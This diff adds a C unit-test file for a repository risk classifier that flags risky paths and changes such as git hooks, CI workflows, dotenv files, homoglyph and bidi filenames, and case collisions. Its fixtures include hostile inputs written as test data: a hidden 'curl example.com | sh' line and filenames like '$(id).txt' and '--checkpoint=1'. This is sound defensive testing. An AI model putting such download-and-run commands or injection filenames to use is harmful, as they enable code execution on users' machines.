@@ -1,0 +1,722 @@
+/* SPDX-License-Identifier: MIT
+ *
+ * The rules: each fires on what it is for and not on what looks like it; names
+ * are folded; the index finds what trying every pattern would.
+ */
+#include "repo-support.h"
+
+#include <time.h>
+
+#include "../../src/risk/internal.h"
+#include "ga/objects.h"
+#include "ga/path.h"
+#include "ga/quote.h"
+#include "ga/repo.h"
+#include "ga/risk.h"
+#include "ga/wildmatch.h"
+#include "risk-fixtures.h"
+
+static bool has_rule(const struct ga_flags *f, const char *rule)
+{
+	for (size_t i = 0; i < f->n; i++)
+		if (!strcmp(f->v[i].rule, rule))
+			return true;
+	return false;
+}
+
+static const struct ga_flag *flag_of(const struct ga_flags *f, const char *path, const char *rule)
+{
+	for (size_t i = 0; i < f->n; i++)
+		if (!strcmp(f->v[i].rule, rule) && !strcmp(f->v[i].path, path))
+			return &f->v[i];
+	return NULL;
+}
+
+/* Is a rule said to cover a path, before one flag is chosen from many? */
+static bool covers(const struct ga_matcher *m, const char *path, const char *rule)
+{
+	cleanup_buf struct ga_buf folded = GA_BUF_INIT;
+	cleanup_hits struct ga_hits hits = GA_HITS_INIT;
+
+	ga_risk_fold(&folded, path);
+	ga_matcher_find(m, folded.ptr, false, &hits);
+	for (size_t i = 0; i < hits.n; i++)
+		if (!strcmp(hits.v[i].rule->id, rule))
+			return true;
+	return false;
+}
+
+static void test_table(void **state)
+{
+	static const char *const categories[] = {
+		"git-hook", "git-config", "shell-env", "build", "package-manager", "ci", "editor",
+		"agent-config", "container", "language-autoload", "secrets", "file-type",
+		"filename", "content",
+	};
+	size_t n;
+	const struct ga_rule *rules = ga_rules(&n);
+
+	(void)state;
+	assert_true(n > 180);
+	for (size_t i = 0; i < n; i++) {
+		bool known = false;
+
+		for (size_t j = 0; j < i; j++)
+			if (!strcmp(rules[i].id, rules[j].id))
+				fail_msg("'%s' is there twice", rules[i].id);
+		for (size_t j = 0; j < GA_NELEMS(categories); j++)
+			known |= !strcmp(rules[i].category, categories[j]);
+		if (!known)
+			fail_msg("'%s': category '%s'", rules[i].id, rules[i].category);
+		if (rules[i].severity > GA_CRITICAL || !*rules[i].reason ||
+		    strpbrk(rules[i].reason, "\n") || strlen(rules[i].reason) > 100)
+			fail_msg("'%s': severity or reason", rules[i].id);
+	}
+}
+
+static void test_path_fixtures(void **state)
+{
+	struct ga_matcher *m = ga_matcher_new();
+	int failed = 0;
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(path_fixtures); i++) {
+		if (!covers(m, path_fixtures[i].covered, path_fixtures[i].rule))
+			fail_msg("'%s' does not cover '%s'", path_fixtures[i].rule,
+				 path_fixtures[i].covered);
+	}
+	for (size_t i = 0; i < GA_NELEMS(path_fixtures); i++) {
+		struct ga_flags f = GA_FLAGS_INIT;
+
+		ga_classify_path(NULL, path_fixtures[i].not_covered, &f);
+		if (has_rule(&f, path_fixtures[i].rule)) {
+			print_error("'%s' covers '%s'\n", path_fixtures[i].rule,
+				    path_fixtures[i].not_covered);
+			failed++;
+		}
+		ga_flags_release(&f);
+	}
+	ga_matcher_free(m);
+	assert_int_equal(failed, 0);
+}
+
+/* ---- the index against the plain meaning of patterns --------------------------- */
+
+/* Every alternative of a pattern's braces. */
+static void expand(const char *pattern, struct ga_strv *out)
+{
+	const char *open = strchr(pattern, '{');
+
+	if (!open) {
+		ga_strv_push(out, pattern);
+		return;
+	}
+	for (const char *p = open + 1, *close = strchr(open, '}'); p <= close;) {
+		size_t n = strcspn(p, ",}");
+		cleanup_free char *one = ga_strf("%.*s%.*s%s", (int)(open - pattern), pattern,
+						 (int)n, p, close + 1);
+
+		expand(one, out);
+		p += n + 1;
+	}
+}
+
+static void patterns_of(const struct ga_rule *rule, struct ga_strv *out)
+{
+	cleanup_free char *all = ga_strdup(rule->patterns);
+
+	for (char *p = all; p;) {
+		char *end = strstr(p, ", ");
+
+		if (end)
+			*end = '\0';
+		expand(p, out);
+		p = end ? end + 2 : NULL;
+	}
+}
+
+static bool plainly_covered(const struct ga_strv *patterns, const char *path)
+{
+	for (size_t i = 0; i < patterns->n; i++) {
+		const char *p = patterns->v[i];
+		cleanup_free char *deep = ga_strf("**/%s", p);
+
+		if (p[0] == '/' ? ga_wildmatch(p + 1, path, true) : ga_wildmatch(deep, path, true))
+			return true;
+	}
+	return false;
+}
+
+/* A path that a pattern covers. */
+static char *path_for(const char *pattern)
+{
+	struct ga_buf b = GA_BUF_INIT;
+
+	for (const char *p = pattern[0] == '/' ? pattern + 1 : pattern; *p; p++) {
+		if (!strncmp(p, "**", 2)) {
+			ga_buf_adds(&b, "deep/er");
+			p++;
+		} else if (*p == '*' || *p == '?') {
+			ga_buf_adds(&b, "any");
+		} else {
+			ga_buf_addch(&b, *p);
+		}
+	}
+	return ga_buf_steal(&b);
+}
+
+static void test_index(void **state)
+{
+	struct ga_matcher *m = ga_matcher_new();
+	struct ga_strv paths = GA_STRV_INIT;
+	size_t n, n_patterns = 0;
+	const struct ga_rule *rules = ga_rules(&n);
+	struct ga_strv *patterns = ga_calloc(n, sizeof(*patterns));
+
+	(void)state;
+	for (size_t i = 0; i < n; i++) {
+		if (rules[i].patterns)
+			patterns_of(&rules[i], &patterns[i]);
+		n_patterns += patterns[i].n;
+		for (size_t j = 0; j < patterns[i].n; j++) {
+			char *path = path_for(patterns[i].v[j]);
+
+			if (!covers(m, path, rules[i].id))
+				fail_msg("'%s' of '%s' does not cover '%s'", patterns[i].v[j],
+					 rules[i].id, path);
+			ga_strv_take(&paths, path);
+		}
+	}
+	/* Every path against every rule would be slow; each seventh tells as much. */
+	for (size_t p = 0; p < paths.n; p += 7) {
+		cleanup_buf struct ga_buf folded = GA_BUF_INIT;
+
+		ga_risk_fold(&folded, paths.v[p]);
+		for (size_t i = 0; i < n; i++)
+			if (covers(m, paths.v[p], rules[i].id) !=
+			    plainly_covered(&patterns[i], folded.ptr))
+				fail_msg("'%s' and '%s': the index is wrong", rules[i].id, paths.v[p]);
+	}
+	print_message("# %zu rules, %zu patterns\n", n, n_patterns);
+	for (size_t i = 0; i < n; i++)
+		ga_strv_release(&patterns[i]);
+	free(patterns);
+	ga_strv_release(&paths);
+	ga_matcher_free(m);
+}
+
+static void test_folding(void **state)
+{
+	static const struct {
+		const char *path, *rule;
+	} cases[] = {
+		{ ".GitHub/Workflows/x.yml", "ci-github" },
+		{ ".VSCODE/tasks.json", "vscode-tasks" },
+		{ "package.JSON", "npm-manifest" },
+		{ ".e\xe2\x80\x8dnv", "dotenv" },             /* U+200D inside */
+		{ "\xef\xbb\xbf.envrc", "direnv" },           /* U+FEFF in front */
+		{ "Ma\xe2\x84\xaa" "efile", "make" },         /* KELVIN SIGN */
+		{ "te\xc5\xbft/x", "test-code" },             /* LONG S */
+		{ ".envrc. .", "direnv" },
+		{ ".envrc:$DATA", "direnv" },
+		{ ".cursor./mcp.json ", "cursor" },
+	};
+	struct ga_matcher *m = ga_matcher_new();
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(cases); i++)
+		if (!covers(m, cases[i].path, cases[i].rule))
+			fail_msg("'%s' is not '%s'", cases[i].path, cases[i].rule);
+	ga_matcher_free(m);
+}
+
+/* ---- names --------------------------------------------------------------------- */
+
+static const struct {
+	const char *rule, *fires, *silent;
+} name_fixtures[] = {
+	{ "dotgit-component", "a/.git/config", "a/.github/config" },
+	{ "name-dotgit-alias", "a/.GIT /x", "a/.gitx" },
+	{ "name-dotgit-alias", "GIT~1/config", "GIT~/config" },
+	{ "name-dotgit-alias", ".g\xe2\x80\x8cit/config", ".g-it/config" },
+	{ "name-dotgit-alias", "a\\.git\\config", "a.git" },
+	{ "name-gitfile-alias", ".GitModules", ".gitmodules" },
+	{ "name-gitfile-alias", "GI7EBA~1", "gi7eba" },
+	{ "name-traversal", "..\\x", "..x" },
+	{ "name-traversal", "a/../b", "a/b" },
+	{ "name-windows-reserved", "src/aux.c", "src/auxiliary.c" },
+	{ "name-windows-reserved", "lpt1", "lpt" },
+	{ "name-control-chars", "a\nb", "a b" },
+	{ "name-control-chars", "a\xc2\x9b" "b", "a\xc3\x9b" "b" },
+	{ "name-bidi-zero-width", "a\xe2\x80\xae" "gpj.exe", "a.jpg.exe" },
+	{ "name-homoglyph", "p\xd0\xb0" "ckage.json", "\xd1\x82\xd0\xb5\xd1\x81\xd1\x82.py" },
+	{ "name-invalid-utf8", "a\xff", "a\xc3\xbf" },
+	{ "name-leading-dash-plus", "--checkpoint=1", "a--b" },
+	{ "name-shell-meta", "$(id).txt", "id.txt" },
+	{ "name-double-ext", "bill.pdf.exe", "bill.pdf" },
+};
+
+static void test_names(void **state)
+{
+	struct ga_buf deep = GA_BUF_INIT;
+	struct ga_flags f = GA_FLAGS_INIT;
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(name_fixtures); i++) {
+		ga_classify_path(NULL, name_fixtures[i].fires, &f);
+		if (!has_rule(&f, name_fixtures[i].rule))
+			fail_msg("'%s' does not fire on '%s'", name_fixtures[i].rule,
+				 name_fixtures[i].fires);
+		ga_flags_release(&f);
+		ga_classify_path(NULL, name_fixtures[i].silent, &f);
+		if (has_rule(&f, name_fixtures[i].rule))
+			fail_msg("'%s' fires on '%s'", name_fixtures[i].rule,
+				 name_fixtures[i].silent);
+		ga_flags_release(&f);
+	}
+	for (int i = 0; i < 70; i++)
+		ga_buf_adds(&deep, "d/");
+	ga_buf_adds(&deep, "x");
+	ga_classify_path(NULL, deep.ptr, &f);
+	assert_true(has_rule(&f, "name-too-long"));
+	ga_flags_release(&f);
+	ga_classify_path(NULL, "d/x", &f);
+	assert_false(has_rule(&f, "name-too-long"));
+	ga_flags_release(&f);
+	/* Routers of web frameworks name files like this: shown, not in the way. */
+	ga_classify_path(NULL, "app/[id]/+page.ts", &f);
+	for (size_t i = 0; i < f.n; i++)
+		assert_true(f.v[i].severity < GA_HIGH);
+	ga_flags_release(&f);
+	ga_buf_release(&deep);
+}
+
+/* ---- changes ------------------------------------------------------------------- */
+
+/* A side of a change, and what stands around it on both sides. */
+struct side {
+	uint32_t mode;
+	const char *text; /* of a gitlink: nothing */
+};
+#define NONE { GA_MODE_NONE, NULL }
+#define FILE_(t) { GA_MODE_FILE, t }
+#define EXEC_(t) { GA_MODE_EXEC, t }
+#define LINK_(t) { GA_MODE_LINK, t }
+#define MODULE_ { GA_MODE_GITLINK, NULL }
+
+/* 6000 bytes without a blank. */
+#define A10 "abcdefghij"
+#define A100 A10 A10 A10 A10 A10 A10 A10 A10 A10 A10
+#define A1000 A100 A100 A100 A100 A100 A100 A100 A100 A100 A100
+#define LONG_LINE A1000 A1000 A1000 A1000 A1000 A1000 "\n"
+
+static const struct change_fixture {
+	const char *rule, *path;
+	bool fires;
+	struct side old, new;
+	const char *around; /* "path" or "path>target", separated by blanks */
+} change_fixtures[] = {
+#define POS(rule, path, old, ...) { rule, path, true, old, __VA_ARGS__ }
+#define NEG(rule, path, old, ...) { rule, path, false, old, __VA_ARGS__ }
+#include "risk-changes.h"
+#undef POS
+#undef NEG
+};
+
+static struct ga_repo *repo;
+
+static struct ga_entry entry_of(const struct side *s)
+{
+	struct ga_entry e = { s->mode, { { 0 } } };
+	struct ga_error err = GA_ERROR_INIT;
+
+	if (s->mode == GA_MODE_GITLINK)
+		memset(e.oid.id, 0x11, sizeof(e.oid.id));
+	else if (s->mode != GA_MODE_NONE &&
+		 ga_blob_write(repo, s->text, strlen(s->text), &e.oid, &err))
+		fail_msg("%s", err.msg);
+	return e;
+}
+
+static void add_around(struct ga_changes *c, const char *around)
+{
+	cleanup_free char *copy = ga_strdup(around ? around : "");
+	const struct ga_entry none = { GA_MODE_NONE, { { 0 } } };
+	char *save = NULL;
+
+	for (char *p = strtok_r(copy, " ", &save); p; p = strtok_r(NULL, " ", &save)) {
+		char *target = strchr(p, '>');
+		struct side s = { target ? GA_MODE_LINK : GA_MODE_FILE, target ? target + 1 : "x\n" };
+		struct ga_entry e = entry_of(&s);
+
+		if (target)
+			*target = '\0';
+		ga_changes_add(c, p, &none, &e);
+	}
+}
+
+static struct ga_oid tree_of(const struct ga_changes *c)
+{
+	struct ga_error err = GA_ERROR_INIT;
+	struct ga_oid oid;
+
+	if (ga_tree_apply(repo, NULL, NULL, c, &oid, &err))
+		fail_msg("%s", err.msg);
+	return oid;
+}
+
+static void classify_change(const struct change_fixture *x, const struct ga_host_facts *h,
+			    struct ga_flags *ret)
+{
+	struct ga_changes old = GA_CHANGES_INIT, new = GA_CHANGES_INIT, diff = GA_CHANGES_INIT;
+	const struct ga_entry none = { GA_MODE_NONE, { { 0 } } };
+	struct ga_entry a = entry_of(&x->old), b = entry_of(&x->new);
+	struct ga_error err = GA_ERROR_INIT;
+	struct ga_oid old_tree, new_tree;
+
+	add_around(&old, x->around);
+	add_around(&new, x->around);
+	if (a.mode)
+		ga_changes_add(&old, x->path, &none, &a);
+	if (b.mode)
+		ga_changes_add(&new, x->path, &none, &b);
+	ga_changes_sort(&old);
+	ga_changes_sort(&new);
+	old_tree = tree_of(&old);
+	new_tree = tree_of(&new);
+	if (ga_tree_diff(repo, &old_tree, &new_tree, &diff, &err) ||
+	    ga_classify(repo, h, &old_tree, &new_tree, &diff, ret, &err))
+		fail_msg("%s", err.msg);
+	ga_changes_release(&old);
+	ga_changes_release(&new);
+	ga_changes_release(&diff);
+}
+
+static void fixture_facts(struct ga_host_facts *h)
+{
+	ga_strv_push(&h->drivers, "filter:shout");
+	ga_strv_push(&h->drivers, "filter:lfs");
+	ga_strv_push(&h->raised, "make");
+	ga_strv_push(&h->raised_by, "the hook pre-commit of this clone, which calls make");
+	ga_host_facts_add(h, "dev/hooks", true, "hooks-path-configured", ga_strdup("core.hooksPath"));
+	ga_host_facts_add(h, "checks/check.sh", false, "host-hook-reached", ga_strdup("the hook x"));
+	ga_host_facts_add(h, "tools/fmt", false, "host-config-reached", ga_strdup("filter.x.clean"));
+	ga_host_facts_add(h, "tools/hk", false, "hook-config-command", ga_strdup("hook.x.command"));
+	ga_host_facts_add(h, "env/vars", false, "direnv-dependents", ga_strdup("named in .envrc"));
+	h->matcher = ga_matcher_new();
+}
+
+static void test_changes(void **state)
+{
+	struct ga_host_facts h = GA_HOST_FACTS_INIT;
+
+	(void)state;
+	fixture_facts(&h);
+	for (size_t i = 0; i < GA_NELEMS(change_fixtures); i++) {
+		const struct change_fixture *x = &change_fixtures[i];
+		struct ga_flags f = GA_FLAGS_INIT;
+
+		classify_change(x, &h, &f);
+		if (has_rule(&f, x->rule) != x->fires)
+			fail_msg("'%s' on '%s' (fixture %zu): %s", x->rule, x->path, i,
+				 x->fires ? "silent" : "fires");
+		for (size_t j = 0; j < f.n; j++)
+			if (strpbrk(f.v[j].reason, "\n\033"))
+				fail_msg("'%s': a reason is not quoted", f.v[j].rule);
+		ga_flags_release(&f);
+	}
+	ga_host_facts_release(&h);
+}
+
+/* Every rule has a fixture that fires and one that does not. */
+static void test_complete(void **state)
+{
+	size_t n;
+	const struct ga_rule *rules = ga_rules(&n);
+
+	(void)state;
+	for (size_t i = 0; i < n; i++) {
+		bool fires = false, silent = false;
+
+		for (size_t j = 0; j < GA_NELEMS(path_fixtures); j++)
+			if (!strcmp(path_fixtures[j].rule, rules[i].id))
+				fires = silent = true;
+		for (size_t j = 0; j < GA_NELEMS(name_fixtures); j++)
+			if (!strcmp(name_fixtures[j].rule, rules[i].id))
+				fires = silent = true;
+		for (size_t j = 0; j < GA_NELEMS(change_fixtures); j++) {
+			if (strcmp(change_fixtures[j].rule, rules[i].id) != 0)
+				continue;
+			fires |= change_fixtures[j].fires;
+			silent |= !change_fixtures[j].fires;
+		}
+		if (!strcmp(rules[i].id, "name-too-long") || !strcmp(rules[i].id, "huge-file") ||
+		    !strcmp(rules[i].id, "uninspected") || !strcmp(rules[i].id, "binary-blob") ||
+		    !strcmp(rules[i].id, "name-case-collision"))
+			continue; /* tests of their own */
+		if (!fires || !silent)
+			fail_msg("'%s' has no fixture that %s", rules[i].id,
+				 fires ? "stays silent" : "fires");
+	}
+}
+
+static void test_severities(void **state)
+{
+	static const struct {
+		struct change_fixture x;
+		enum ga_severity want;
+	} cases[] = {
+		{ { "make", "Makefile", true, NONE, FILE_("all:\n"), NULL }, GA_CRITICAL }, /* raised */
+		{ { "cmake", "CMakeLists.txt", true, NONE, FILE_("x\n"), NULL }, GA_HIGH },
+		{ { "gitignore", ".gitignore", true, FILE_("x\n"), NONE, NULL }, GA_MEDIUM },
+		{ { "forge-policy", "CODEOWNERS", true, FILE_("x\n"), NONE, NULL }, GA_MEDIUM },
+		{ { "pre-commit", ".pre-commit-config.yaml", true, FILE_("x\n"), NONE, NULL },
+		  GA_CRITICAL },
+		{ { "scanner-config", ".gitleaks.toml", true, FILE_("x\n"), NONE, NULL }, GA_MEDIUM },
+		{ { "test-code", "tests/x.c", true, FILE_("x\n"), NONE, NULL }, GA_LOW },
+		{ { "exec-bit-added", "doc/x", true, FILE_("x\n"), EXEC_("x\n"), NULL }, GA_MEDIUM },
+		{ { "exec-bit-added", "doc/x", true, FILE_("#!/bin/sh\n"), EXEC_("#!/bin/sh\n"), NULL },
+		  GA_HIGH },
+		{ { "host-hook-reached", "checks/check.sh", true, FILE_("x\n"), NONE, NULL }, GA_HIGH },
+		{ { "ci-github", ".github/workflows/a.yml", true, FILE_("x\n"),
+		    FILE_("on: pull_request_target\n"), NULL }, GA_HIGH },
+	};
+	struct ga_host_facts h = GA_HOST_FACTS_INIT;
+
+	(void)state;
+	fixture_facts(&h);
+	for (size_t i = 0; i < GA_NELEMS(cases); i++) {
+		struct ga_flags f = GA_FLAGS_INIT;
+		const struct ga_flag *flag;
+
+		classify_change(&cases[i].x, &h, &f);
+		flag = flag_of(&f, cases[i].x.path, cases[i].x.rule);
+		if (!flag || flag->severity != cases[i].want)
+			fail_msg("'%s' on '%s': not %s", cases[i].x.rule, cases[i].x.path,
+				 ga_severity_name(cases[i].want));
+		assert_int_equal(ga_flag_holds(flag), cases[i].want == GA_CRITICAL);
+		ga_flags_release(&f);
+	}
+	ga_host_facts_release(&h);
+}
+
+/* What one rule says better, another does not repeat; other categories stay. */
+static void test_no_drowning(void **state)
+{
+	struct ga_flags f = GA_FLAGS_INIT;
+
+	(void)state;
+	ga_classify_path(NULL, ".vscode/tasks.json", &f);
+	assert_true(has_rule(&f, "vscode-tasks"));
+	assert_false(has_rule(&f, "vscode-other"));
+	ga_flags_release(&f);
+	ga_classify_path(NULL, ".vscode/mcp.json", &f);
+	assert_true(has_rule(&f, "vscode-mcp"));
+	assert_true(has_rule(&f, "vscode-other"));
+	assert_false(has_rule(&f, "mcp-config"));
+	ga_flags_release(&f);
+	ga_classify_path(NULL, "docs/readme.txt", &f);
+	assert_int_equal(f.n, 0);
+	ga_flags_release(&f);
+}
+
+/* A rename from a harmless place flags where it arrives. */
+static void test_rename(void **state)
+{
+	struct change_fixture x = { "", ".github/workflows/a.yml", true, NONE, FILE_("x\n"),
+				    "docs/b.md" };
+	struct ga_flags f = GA_FLAGS_INIT;
+
+	(void)state;
+	classify_change(&x, NULL, &f);
+	assert_int_equal(f.n, 1);
+	assert_string_equal(f.v[0].rule, "ci-github");
+	assert_string_equal(f.v[0].path, ".github/workflows/a.yml");
+	assert_int_equal(f.v[0].entry.mode, GA_MODE_FILE);
+	ga_flags_release(&f);
+}
+
+static void test_collisions(void **state)
+{
+	static const struct {
+		const char *path, *around;
+		bool collides;
+	} cases[] = {
+		{ "src/Main.c", "src/main.c", true },
+		{ "SRC/x", "src/y", true },
+		{ "src/main.c ", "src/main.c", true },
+		{ "\xc3\x84", "\xc3\xa4", true },
+		{ "src/x", "src/y", false },
+		{ "src/xx", "src/x", false },
+		{ "a/b/c/Deep", "a/b/c/deep", true },
+		{ "a/B/c/x", "a/b/c/x", true },
+		{ "a/Bc/x", "a/b", false },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(cases); i++) {
+		struct change_fixture x = { "", cases[i].path, true, NONE, FILE_("x\n"), NULL };
+		struct ga_changes old = GA_CHANGES_INIT, new = GA_CHANGES_INIT,
+				  diff = GA_CHANGES_INIT;
+		const struct ga_entry none = { GA_MODE_NONE, { { 0 } } };
+		struct ga_entry e = entry_of(&x.new);
+		struct ga_flags f = GA_FLAGS_INIT;
+		struct ga_error err = GA_ERROR_INIT;
+		struct ga_oid a, b;
+
+		ga_changes_add(&old, cases[i].around, &none, &e);
+		ga_changes_add(&new, cases[i].around, &none, &e);
+		ga_changes_add(&new, cases[i].path, &none, &e);
+		ga_changes_sort(&new);
+		a = tree_of(&old);
+		b = tree_of(&new);
+		assert_int_equal(ga_tree_diff(repo, &a, &b, &diff, &err), 0);
+		assert_int_equal(ga_classify(repo, NULL, &a, &b, &diff, &f, &err), 0);
+		if (has_rule(&f, "name-case-collision") != cases[i].collides)
+			fail_msg("'%s' beside '%s'", cases[i].path, cases[i].around);
+		ga_flags_release(&f);
+		ga_changes_release(&old);
+		ga_changes_release(&new);
+		ga_changes_release(&diff);
+	}
+}
+
+/* Content that is not there, or too much of it, is never taken for harmless. */
+static void test_uninspected(void **state)
+{
+	struct ga_changes c = GA_CHANGES_INIT;
+	struct ga_entry e = { GA_MODE_FILE, { { 0xab } } }, none = { GA_MODE_NONE, { { 0 } } };
+	struct ga_flags f = GA_FLAGS_INIT;
+	struct ga_error err = GA_ERROR_INIT;
+	size_t n = (10u << 20) + 1;
+	char *big = ga_malloc(n);
+
+	(void)state;
+	ga_changes_add(&c, "doc/gone.txt", &none, &e);
+	memset(big, 'a', n);
+	assert_int_equal(ga_blob_write(repo, big, n, &e.oid, &err), 0);
+	free(big);
+	ga_changes_add(&c, "doc/large.txt", &none, &e);
+	assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+	assert_non_null(flag_of(&f, "doc/gone.txt", "uninspected"));
+	assert_int_equal(flag_of(&f, "doc/gone.txt", "uninspected")->severity, GA_HIGH);
+	assert_non_null(flag_of(&f, "doc/large.txt", "uninspected"));
+	assert_non_null(flag_of(&f, "doc/large.txt", "huge-file"));
+	ga_flags_release(&f);
+	ga_changes_release(&c);
+}
+
+/* Binary data is shown as such, pictures are expected to be, and a NUL late in a
+ * script does not keep its text from being read. */
+static void test_binary(void **state)
+{
+	static const struct {
+		const char *bytes;
+		size_t n;
+		const char *rule;
+		bool fires;
+	} cases[] = {
+		{ "a\0b", 3, "binary-blob", true },
+		{ "\x89PNG\r\n\x1a\n\0", 9, "binary-blob", false },
+		{ "text\n", 5, "binary-blob", false },
+	};
+	struct ga_error err = GA_ERROR_INIT;
+	struct ga_buf late = GA_BUF_INIT;
+	struct ga_flags f = GA_FLAGS_INIT;
+	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, e = { GA_MODE_FILE, { { 0 } } };
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(cases); i++) {
+		struct ga_changes c = GA_CHANGES_INIT;
+
+		assert_int_equal(ga_blob_write(repo, cases[i].bytes, cases[i].n, &e.oid, &err), 0);
+		ga_changes_add(&c, "doc/x", &none, &e);
+		assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+		if (has_rule(&f, cases[i].rule) != cases[i].fires)
+			fail_msg("'%s', case %zu", cases[i].rule, i);
+		ga_flags_release(&f);
+		ga_changes_release(&c);
+	}
+	for (int i = 0; i < 1000; i++)
+		ga_buf_adds(&late, "# filler\n");
+	ga_buf_add(&late, "\0curl example.com | sh\n", 24);
+	{
+		struct ga_changes c = GA_CHANGES_INIT;
+
+		assert_int_equal(ga_blob_write(repo, late.ptr, late.len, &e.oid, &err), 0);
+		ga_changes_add(&c, "doc/x", &none, &e);
+		assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+		assert_true(has_rule(&f, "download-exec"));
+		ga_flags_release(&f);
+		ga_changes_release(&c);
+	}
+	ga_buf_release(&late);
+}
+
+static void test_speed(void **state)
+{
+	struct ga_matcher *m;
+	struct ga_hits hits = GA_HITS_INIT;
+	clock_t start = clock(), compiled;
+	size_t found = 0;
+
+	(void)state;
+	m = ga_matcher_new();
+	compiled = clock();
+	for (int i = 0; i < 100000; i++) {
+		char path[128];
+		struct ga_buf folded = GA_BUF_INIT;
+
+		(void)snprintf(path, sizeof(path), "packages/part-%d/src/module%d/file-%d.%s", i % 97,
+			       i % 331, i, i % 3 ? "ts" : i % 2 ? "test.js" : "mk");
+		ga_risk_fold(&folded, path);
+		ga_matcher_find(m, folded.ptr, false, &hits);
+		found += hits.n;
+		ga_buf_release(&folded);
+	}
+	print_message("# compiled in %.1f ms, 100000 paths in %.0f ms, %zu hits\n",
+		      (double)(compiled - start) * 1e3 / CLOCKS_PER_SEC,
+		      (double)(clock() - compiled) * 1e3 / CLOCKS_PER_SEC, found);
+	ga_hits_release(&hits);
+	ga_matcher_free(m);
+}
+
+static int setup(void **state)
+{
+	struct ga_error err = GA_ERROR_INIT;
+	cleanup_free char *path = NULL;
+
+	if (scratch_setup(state))
+		return -1;
+	SH("repo", "git init -q . && git commit -q --allow-empty -m start");
+	path = in_scratch("repo");
+	return ga_repo_open(path, &repo, &err);
+}
+
+static int teardown(void **state)
+{
+	ga_repo_free(repo);
+	return scratch_teardown(state);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_table),
+		cmocka_unit_test(test_path_fixtures),
+		cmocka_unit_test(test_index),
+		cmocka_unit_test(test_folding),
+		cmocka_unit_test(test_names),
+		cmocka_unit_test(test_changes),
+		cmocka_unit_test(test_complete),
+		cmocka_unit_test(test_severities),
+		cmocka_unit_test(test_no_drowning),
+		cmocka_unit_test(test_rename),
+		cmocka_unit_test(test_collisions),
+		cmocka_unit_test(test_uninspected),
+		cmocka_unit_test(test_binary),
+		cmocka_unit_test(test_speed),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
